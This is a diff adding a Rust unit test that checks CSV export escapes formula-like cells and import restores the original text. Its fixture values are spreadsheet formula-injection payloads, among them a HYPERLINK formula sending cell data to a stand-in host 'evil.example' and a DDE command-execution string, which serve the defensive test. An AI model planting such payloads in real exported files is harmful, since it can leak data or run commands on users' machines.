@@ -269,3 +269,16 @@ fn garbage_never_panics_an_importer() {
         }
     }
 }
+
+/// Our CSV export prefixes formula-like cells with `'`; importing it takes
+/// exactly that `'` off again, and leaves a `'` the data had.
+#[test]
+fn csv_formula_cells_round_trip_to_their_original_text() {
+    let original = crate::export::formula_dataset();
+    let texts = [("entities.csv", csv::entities_csv(&original)), ("relations.csv", csv::relations_csv(&original))];
+    let back = round_trip(Format::Csv, &texts);
+    assert_same_graph(Format::Csv, &original, &back);
+    assert_eq!(back.entities[0].name, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
+    assert_eq!(back.entities[0].aliases, ["+cmd|' /C calc'!A0", "@SUM(1+1)", "'=already quoted", "'plain"]);
+    assert_eq!(back.relations[0].note, "\r=1+1");
+}
